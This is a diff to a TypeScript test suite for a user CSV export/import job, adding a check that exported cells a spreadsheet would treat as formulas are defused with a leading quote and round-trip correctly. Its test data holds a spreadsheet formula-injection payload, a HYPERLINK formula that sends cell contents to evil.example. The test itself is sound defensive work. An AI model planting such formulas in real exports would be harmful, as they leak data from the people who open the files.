@@ -1,3 +1,4 @@
+import { parse } from 'csv-parse/sync';
 import { localJobs } from '../../infra/local/jobs';
 import { JOB_BATCH_ROWS, JOB_LIMITS } from '../../shared/rules';
 import { expectProblem, TestApi, type Tenant } from '../support/runtime';
@@ -233,12 +234,36 @@ describe('R19 users export and R22 token import jobs', () => {
     const [header, ...rows] = csv.trimEnd().split('\n');
     expect(header).toBe('userId,firstName,lastName,email,phone,backupPhones,officePhone,mfaEnabled,licensed,defaultMethod');
     expect(rows).toHaveLength(12);
-    expect(rows).toContain('bulk-5003,Bulk 5003,,,+14155556003,,,true,false,');
+    // A phone number starts with +: a spreadsheet would read it as a formula, so it is defused.
+    expect(rows).toContain(`bulk-5003,Bulk 5003,,,"'+14155556003",,,true,false,`);
     const back = await finished(tenant, (await runImport(tenant, 'user-import', csv)).body.jobId);
     expect(back.counts).toMatchObject({ rows: 12, unchanged: 12, created: 0, updated: 0, failed: 0 });
     // Another tenant's export holds none of these users.
     const theirs = await finished(other, (await create(other, { kind: 'user-export' })).body.job.jobId);
     expect(await download(other, theirs.jobId)).not.toContain('bulk-5003');
+  });
+
+  it('defuses every cell a spreadsheet would run as a formula, and importing the export back gives the original values', async () => {
+    const tenant = await api.createTenant('Formulas');
+    const names: Record<string, { firstName: string; lastName: string }> = {
+      '@evil': { firstName: '=HYPERLINK("http://evil.example/?"&A1,"Open")', lastName: '+1' },
+      '-2': { firstName: '-2+3', lastName: '@SUM(A1:A9)' },
+      quoted: { firstName: "'=already quoted", lastName: "O'Neill" },
+    };
+    for (const [userId, body] of Object.entries(names)) {
+      expect((await api.request('PUT', `/v1/admin/users/${encodeURIComponent(userId)}`, { key: tenant.adminKey, body: { ...body, mfaEnabled: true, phones: { primary: '+14155550123' } } })).status).toBe(201);
+    }
+    const exported = await finished(tenant, (await create(tenant, { kind: 'user-export' })).body.job.jobId);
+    const csv = await download(tenant, exported.jobId);
+    const cells = (parse(csv, { from_line: 2 }) as string[][]).flat();
+    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
+    expect(csv).toContain(`"'@evil","'=HYPERLINK(""http://evil.example/?""&A1,""Open"")","'+1"`);
+    expect(csv).toContain(`"''=already quoted",O'Neill`);
+    const back = await finished(tenant, (await runImport(tenant, 'user-import', csv)).body.jobId);
+    expect(back.counts).toMatchObject({ rows: 3, unchanged: 3, created: 0, updated: 0, failed: 0 });
+    for (const [userId, body] of Object.entries(names)) {
+      expect((await api.request('GET', `/v1/admin/users/${encodeURIComponent(userId)}`, { key: tenant.adminKey })).body).toMatchObject({ ...body, phones: { primary: { e164: '+14155550123' } } });
+    }
   });
 
   it('imports tokens with one sealing per batch; a re-run finds every serial stored and writes nothing', async () => {
